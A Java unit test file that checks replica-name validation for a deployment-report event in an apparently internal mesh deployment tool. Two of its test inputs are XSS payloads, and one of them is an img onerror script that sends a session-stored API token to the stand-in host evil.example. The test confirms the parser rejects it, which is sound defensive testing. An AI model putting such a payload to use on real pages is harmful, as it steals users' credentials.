package dev.wgmesh.common.events;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.wgmesh.common.group.GroupName;
import dev.wgmesh.common.group.HostName;
import java.time.Instant;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.node.ObjectNode;

/** A report's replica reaches status and the page; only a plain name gets that far. */
class DeploymentReportedTest {

    private static final UUID ID = UUID.fromString("0b7c4f1e-9a51-4c2e-8d55-3f0e6a1b2c3d");

    private static DeploymentReported report(String replica) {
        return new DeploymentReported(ID, GroupName.parse("prod"), 3, Instant.parse("2026-12-05T08:00:00Z"), ID,
                HostName.parse("node-1"), DeploymentReported.Outcome.APPLIED, null, "sha256:00", replica, 12);
    }

    @ParameterizedTest
    @ValueSource(strings = {"deployer-1", "ip-10-0-3-17.eu-west-1.compute.internal-48213", "3f2a9c1d0b7e-1",
            "deployer@rack_2:7", "a"})
    void plainNamesAndTheDefaultHostnamePidAreReplicas(String replica) {
        assertThat(report(replica).replica()).isEqualTo(replica);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "<img src=x onerror=alert(1)>", "deployer 1", "deployer-1\n", "d\"1", "dé-1", "x/y"})
    void anythingElseIsRefusedWithTheValueQuoted(String replica) {
        assertThatThrownBy(() -> report(replica)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("replica \"")
                .hasMessageContaining("is not a replica name: 1..100 characters of A-Z, a-z, 0-9");
    }

    @Test
    void aNameOfMoreThan100CharactersOrNoneIsRefused() {
        assertThat(report("r".repeat(100)).replica()).hasSize(100);
        assertThatThrownBy(() -> report("r".repeat(101))).hasMessageContaining("is not a replica name");
        assertThatThrownBy(() -> report(null)).isInstanceOf(NullPointerException.class).hasMessage("replica is required");
    }

    @Test
    void aForgedRecordWithAHostileReplicaDoesNotParse() {
        ObjectNode tree = (ObjectNode) EventJson.tree(EventJson.write(report("deployer-1")));
        tree.put("replica", "<img src=x onerror=fetch('//evil.example/'+sessionStorage.getItem('wgmesh-api-token'))>");

        assertThatThrownBy(() -> EventJson.read(EventJson.write(tree), DeploymentReported.class))
                .isInstanceOf(InvalidEventException.class).hasMessageContaining("is not a replica name");
    }

    @Test
    void theCauseIsWrittenAsItsNameAndAbsentForARenderedRecord() {
        DeploymentReported repaired = new DeploymentReported(ID, GroupName.parse("prod"), 3, Instant.now(), ID,
                HostName.parse("node-1"), DeploymentReported.Outcome.APPLIED, null, "sha256:00", "d-1", 12,
                DeploymentReported.Cause.DRIFT_REPAIR);

        assertThat(EventJson.tree(EventJson.write(repaired)).get("cause").stringValue()).isEqualTo("drift-repair");
        assertThat(EventJson.read(EventJson.write(repaired), DeploymentReported.class)).isEqualTo(repaired);
        assertThat(EventJson.tree(EventJson.write(report("d-1"))).has("cause")).isFalse();
        ObjectNode tree = (ObjectNode) EventJson.tree(EventJson.write(repaired));
        tree.put("cause", "because");
        assertThatThrownBy(() -> EventJson.read(EventJson.write(tree), DeploymentReported.class))
                .isInstanceOf(InvalidEventException.class).hasMessageContaining("\"because\" is not a deployment cause");
    }
}
